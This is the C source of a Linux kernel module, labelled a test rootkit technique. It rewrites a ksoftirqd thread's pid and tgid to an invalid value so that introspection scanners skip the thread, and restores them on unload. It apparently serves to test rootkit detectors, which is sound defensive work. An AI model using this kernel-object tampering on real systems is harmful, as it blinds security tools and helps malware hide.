// SPDX-License-Identifier: GPL-2.0
/*
 * rk_corrupt: corrupts a kernel object to blind introspection: the first
 * ksoftirqd thread's pid and tgid become 0x7fffffff (out of range: pid_max
 * is at most 4M), so a walker that validates tasks must skip it. The
 * values are saved and restored on unload. Loaded together with another
 * technique, it shows whether the scan still reports that one.
 */
#include <linux/sched.h>
#include <linux/sched/signal.h>
#include <linux/sched/task.h>
#include "rk_common.h"

static struct task_struct *victim;
static pid_t saved_pid, saved_tgid;

static int __init rk_corrupt_init(void)
{
	struct task_struct *p;

	rcu_read_lock();
	for_each_process(p) {
		if ((p->flags & PF_KTHREAD) && !strncmp(p->comm, "ksoftirqd/", 10)) {
			victim = p;
			get_task_struct(p);
			break;
		}
	}
	rcu_read_unlock();
	if (!victim)
		return -ESRCH;
	saved_pid = victim->pid;
	saved_tgid = victim->tgid;
	victim->pid = 0x7fffffff;
	victim->tgid = 0x7fffffff;
	pr_info("rk_corrupt: task %px (%s, pid %d) now has pid and tgid 0x7fffffff\n", victim, victim->comm, saved_pid);
	return 0;
}

static void __exit rk_corrupt_exit(void)
{
	victim->pid = saved_pid;
	victim->tgid = saved_tgid;
	put_task_struct(victim);
}

module_init(rk_corrupt_init);
module_exit(rk_corrupt_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("test rootkit technique: a corrupted kernel object");
